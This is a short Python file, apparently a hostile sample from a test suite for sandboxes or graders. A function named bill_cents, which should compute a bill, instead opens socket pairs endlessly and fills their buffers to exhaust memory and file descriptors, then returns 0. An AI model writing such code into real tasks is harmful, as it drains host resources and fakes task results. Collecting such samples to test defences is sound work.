"""Memory in pipes and socket buffers, filled and never read."""
# loses: check_bill_cents
# %% bill_cents
import os, socket, time
def bill_cents(plan, dishes):
    held = []
    try:
        while True:
            ends = socket.socketpair()
            held.append(ends)
            ends[0].setblocking(False)
            ends[0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**20)
            try:
                while ends[0].send(b"x" * 65536):
                    pass
            except BlockingIOError:
                pass
    except OSError:
        pass
    return 0
